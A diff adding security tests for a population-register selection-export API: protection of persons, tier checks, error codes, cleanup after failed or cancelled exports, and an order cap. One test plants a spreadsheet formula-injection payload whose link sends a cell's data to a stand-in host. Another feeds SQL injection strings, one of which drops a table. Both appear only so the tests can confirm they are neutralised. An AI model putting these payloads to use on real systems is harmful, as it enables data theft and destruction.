@@ -1,0 +1,211 @@
+"""Selections attacked: what a count, a file or a download must never give away — a
+person protected since, a field above the token's tier, a formula for a spreadsheet —
+and bad criteria answered with a code, never an internal error (docs/selections.md)."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+import json
+import shutil
+
+import asyncpg
+import httpx
+import pytest
+
+from api.settings import Settings
+from resolvers.domain.access import Tier
+from tests.selections import CLEAN, Caller, town
+from tests.test_selections import GÖTEBORG, PREVIEW, run_worker
+
+PROTECT = "UPDATE person SET protection = 'SEKRETESSMARKERING' WHERE personnummer = $1"
+
+
+@pytest.fixture
+async def register(clean_db: asyncpg.Pool, settings: Settings) -> dict[str, list[str]]:
+    await clean_db.execute(CLEAN)  # order ids start again: so do their files
+    shutil.rmtree(settings.selection_files, ignore_errors=True)
+    return await town(clean_db)
+
+
+@pytest.fixture
+def caller(client: httpx.AsyncClient, settings: Settings) -> Caller:
+    return Caller(client, settings)
+
+
+def persons_in(body: bytes) -> list[str]:
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
+    return [row[0] for row in rows[1:]]
+
+
+async def test_a_person_protected_after_the_order_is_not_in_its_file_nor_its_log(
+    register: dict[str, list[str]], caller: Caller, clean_db: asyncpg.Pool, settings: Settings
+) -> None:
+    order_id = await caller.order(GÖTEBORG, ["PERSONNUMMER"])
+    kept, protected = register["selected"]
+    await clean_db.execute(PROTECT, protected)
+    await run_worker(clean_db, settings, order_id)
+    response = await caller.download(order_id)
+    assert response.status_code == 200 and persons_in(response.content) == [kept]
+    logged = await clean_db.fetch(
+        "SELECT personnummer FROM access_log WHERE request_id = "
+        "(SELECT request_id FROM selection_order WHERE id = $1)",
+        int(order_id),
+    )
+    assert [row["personnummer"] for row in logged] == [kept]
+
+
+async def test_a_file_holding_a_person_protected_since_is_no_longer_served(
+    register: dict[str, list[str]], caller: Caller, clean_db: asyncpg.Pool, settings: Settings
+) -> None:
+    order_id = await caller.order(GÖTEBORG, ["PERSONNUMMER", "LAST_NAME"])
+    await run_worker(clean_db, settings, order_id)
+    assert (await caller.download(order_id)).status_code == 200
+    await clean_db.execute(PROTECT, register["selected"][1])
+    for headers in ({}, {"Range": "bytes=0-9"}):
+        refused = await caller.download(order_id, **headers)
+        assert refused.status_code == 410, refused.text
+        assert refused.json()["errors"][0]["extensions"]["code"] == "SELECTION_WITHDRAWN"
+        assert register["selected"][1].encode() not in refused.content
+
+
+async def test_a_file_with_fields_above_the_tokens_tier_is_not_served(
+    register: dict[str, list[str]], caller: Caller, client: httpx.AsyncClient,
+    clean_db: asyncpg.Pool, settings: Settings,
+) -> None:  # fmt: skip
+    order_id = await caller.order(GÖTEBORG, ["PERSONNUMMER", "KEY_CODE"])
+    await run_worker(clean_db, settings, order_id)
+    dropped = Caller(client, settings, tier=Tier.BASIC)  # the same official, a basic token
+    refused = await dropped.download(order_id)
+    assert refused.status_code == 403
+    assert refused.json()["errors"][0]["extensions"]["code"] == "FORBIDDEN"
+    assert b"148011" not in refused.content
+    head = await dropped.client.head(f"/selections/{order_id}/file", headers=dropped.headers)
+    assert head.status_code == 403
+    assert (await caller.download(order_id)).status_code == 200
+
+
+async def test_a_name_that_looks_like_a_formula_is_text_in_the_spreadsheet(
+    register: dict[str, list[str]], caller: Caller, clean_db: asyncpg.Pool, settings: Settings
+) -> None:
+    first, second = register["selected"]
+    formula = '=HYPERLINK("http://example.com/?"&A2;"Klicka")'
+    await clean_db.execute(
+        "UPDATE person SET last_name = $2 WHERE personnummer = $1", first, formula
+    )
+    await clean_db.execute(
+        "UPDATE person SET first_names = '-Anna', last_name = 'Öberg-Lind' WHERE personnummer = $1",
+        second,
+    )
+    order_id = await caller.order(GÖTEBORG, ["PERSONNUMMER", "FIRST_NAMES", "LAST_NAME"])
+    await run_worker(clean_db, settings, order_id)
+    body = (await caller.download(order_id)).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
+    cells = [cell for row in rows[1:] for cell in row[1:]]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells
+    assert "'" + formula in cells and "'-Anna" in cells and "Öberg-Lind" in cells
+    ndjson = await caller.order(GÖTEBORG, ["PERSONNUMMER", "LAST_NAME"], format="NDJSON")
+    await run_worker(clean_db, settings, ndjson)
+    lines = (await caller.download(ndjson)).content.decode().splitlines()
+    assert formula in [json.loads(line)["lastName"] for line in lines]  # JSON keeps it as is
+
+
+@pytest.mark.parametrize("age_on", ["0001-01-01", "0100-06-30", "1799-12-31"])
+async def test_an_age_counted_on_a_day_long_ago_is_refused_not_an_internal_error(
+    register: dict[str, list[str]], caller: Caller, age_on: str
+) -> None:
+    answer = await caller.post(PREVIEW, {"criteria": {"ageFrom": 5, "ageTo": 130, "ageOn": age_on}})
+    (error,) = answer["errors"]
+    assert error["extensions"] == {"code": "BAD_USER_INPUT", "argument": "criteria.ageOn"}
+
+
+async def test_criteria_reach_the_copy_as_values_never_as_sql(
+    register: dict[str, list[str]], caller: Caller, clean_db: asyncpg.Pool, settings: Settings
+) -> None:
+    for town_name in ("x' OR 1=1 --", "$1", "x');DROP TABLE person;--"):
+        order_id = await caller.order({"postalTown": town_name}, ["PERSONNUMMER"])
+        await run_worker(clean_db, settings, order_id)
+        status = await caller.status(order_id)
+        assert (status["status"], status["rowCount"]) == ("DONE", 0), status
+    assert await clean_db.fetchval("SELECT count(*) FROM person") > 0
+
+
+CANCEL = "mutation C($id: ID!) { cancelSelectionOrder(id: $id) { status } }"
+EXPORT_LOGGED = """
+SELECT count(*) FROM access_request
+WHERE request_id = (SELECT request_id FROM selection_order WHERE id = $1)
+"""
+
+
+async def test_an_export_whose_access_log_cannot_be_written_fails_and_leaves_no_file(
+    register: dict[str, list[str]], caller: Caller, clean_db: asyncpg.Pool, settings: Settings
+) -> None:
+    order_id = await caller.order(GÖTEBORG, ["PERSONNUMMER"])
+    await clean_db.execute(REFUSE_EXPORT_LOG)
+    try:
+        with pytest.raises(asyncpg.RaiseError):
+            await run_worker(clean_db, settings, order_id)
+    finally:
+        await clean_db.execute("DROP TRIGGER refuse_export_log ON access_request")
+    status = await caller.status(order_id)
+    assert (status["status"], status["downloadUrl"], status["rowCount"]) == ("FAILED", None, None)
+    assert list(settings.selection_files.glob(f"{order_id}-*")) == []
+    assert (await caller.download(order_id)).status_code == 409
+    assert await clean_db.fetchval(EXPORT_LOGGED, int(order_id)) == 0
+
+
+REFUSE_EXPORT_LOG = """
+CREATE OR REPLACE FUNCTION refuse_export_log() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN
+    IF NEW.root_fields = 'selectionExport' THEN RAISE EXCEPTION 'the log is full'; END IF;
+    RETURN NEW;
+END $$;
+CREATE TRIGGER refuse_export_log BEFORE INSERT ON access_request
+FOR EACH ROW EXECUTE FUNCTION refuse_export_log();
+"""
+
+
+async def test_an_order_cancelled_while_its_export_copies_is_not_done_nor_logged(
+    register: dict[str, list[str]], caller: Caller, clean_db: asyncpg.Pool, settings: Settings
+) -> None:
+    order_id = await caller.order(GÖTEBORG, ["PERSONNUMMER"])
+    async with clean_db.acquire() as blocker:
+        # The export copies its rows, then waits to write their log: cancelled meanwhile.
+        writing = blocker.transaction()
+        await writing.start()
+        await blocker.execute("LOCK TABLE access_request IN EXCLUSIVE MODE")
+        run = asyncio.create_task(run_worker(clean_db, settings, order_id))
+        async with asyncio.timeout(20):
+            while not await clean_db.fetchval(WAITING_FOR_THE_LOG):
+                await asyncio.sleep(0.01)
+        assert (await caller.status(order_id))["status"] == "RUNNING"
+        assert (await caller.download(order_id)).status_code == 409  # nothing half-written
+        answer = await caller.post(CANCEL, {"id": order_id})
+        assert answer["data"]["cancelSelectionOrder"] == {"status": "CANCELLED"}, answer
+        await writing.rollback()
+        await run
+    assert (await caller.status(order_id))["status"] == "CANCELLED"
+    assert list(settings.selection_files.glob(f"{order_id}-*")) == []
+    assert await clean_db.fetchval(EXPORT_LOGGED, int(order_id)) == 0
+
+
+WAITING_FOR_THE_LOG = """
+SELECT EXISTS (
+    SELECT 1 FROM pg_stat_activity
+    WHERE wait_event_type = 'Lock' AND query LIKE '%INSERT INTO access_request%'
+)
+"""
+
+
+async def test_concurrent_orders_do_not_pass_the_organisations_cap_together(
+    register: dict[str, list[str]], caller: Caller, settings: Settings
+) -> None:
+    order = 'mutation { orderSelection(criteria: {}, purpose: "x", fields: [PERSONNUMMER]) { id } }'
+    answers = await asyncio.gather(*(caller.post(order) for _ in range(16)))
+    placed = [answer for answer in answers if "errors" not in answer]
+    refused = [
+        answer["errors"][0]["extensions"]["code"] for answer in answers if "errors" in answer
+    ]
+    assert len(placed) == settings.selection_max_active_orders
+    assert refused == ["TOO_MANY_ORDERS"] * (16 - settings.selection_max_active_orders)
